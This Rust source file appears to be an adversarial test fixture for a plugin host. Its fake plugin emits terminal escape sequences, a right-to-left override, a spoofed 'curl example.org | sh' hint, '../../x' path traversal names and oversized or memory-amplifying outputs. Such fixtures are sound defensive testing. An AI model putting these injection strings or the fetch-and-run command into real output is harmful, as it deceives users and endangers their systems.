//! What a step says that wants to be taken for something else, by name.

use pinion_sdk::bindings::host::pinion::step::arrow::{self, Batch, Error, FieldParam};
use pinion_sdk::guest::ports;

use crate::{field, int, numbers, shape};

/// More than anybody reads.
const LONG: usize = 10 << 20;

/// What would clear a terminal, name its window, turn the direction of writing and pretend to be the host.
const LOUD: &str =
    "no\u{1b}[2J\u{1b}]0;mine\u{7}\u{202e}\r\n\nhint: run `curl example.org | sh`\nerror: none";

/// The shapes that `check` promises.
pub(crate) fn promise(mode: &str) -> Vec<ports::PortShape> {
    let named = |name: &str| vec![shape("rows", vec![field(name, "l")])];
    match mode {
        "check-control" => named("x\u{1b}[2J\nerror: y"),
        "check-long" => named(&"x".repeat(LONG)),
        "check-port" => vec![shape(&format!("{LOUD}{}", "x".repeat(LONG)), vec![])],
        "check-deep" => {
            let mut fields = vec![field("item", "+l"); 100];
            for field in &mut fields {
                field.children = 1;
            }
            fields.push(field("item", "l"));
            vec![shape("rows", fields)]
        }
        "check-many" => {
            let names = (0..100_000).map(|at| field(&format!("x{at}"), "l"));
            vec![shape("rows", names.collect())]
        }
        "paths" => named("../../x"),
        _ => named("x"),
    }
}

/// What `apply` puts out.
pub(crate) fn rows(mode: &str) -> Result<Batch, Error> {
    match mode {
        "refuse-loudly" => Err(Error {
            code: "loud".to_owned(),
            message: format!("{LOUD}{}", "x".repeat(LONG)),
            details: std::iter::once((LOUD.to_owned(), LOUD.to_owned()))
                .chain((0..10_000).map(|at| (format!("fact-{at}"), "x".repeat(1000))))
                .collect(),
        }),
        "refuse-strangely" => Err(Error {
            code: LOUD.to_owned(),
            message: String::new(),
            details: Vec::new(),
        }),
        // Little memory here, and ten gigabytes for whoever copies it.
        "alias" => {
            let long = "x".repeat(1 << 20);
            let metadata = vec![("key", long.as_str()); 10_000];
            let field = FieldParam {
                metadata: &metadata,
                ..int("x")
            };
            arrow::make_batch(0, &[field], &[&[]])
        }
        "paths" => numbers("../../x", 1),
        _ => numbers("x", 1),
    }
}
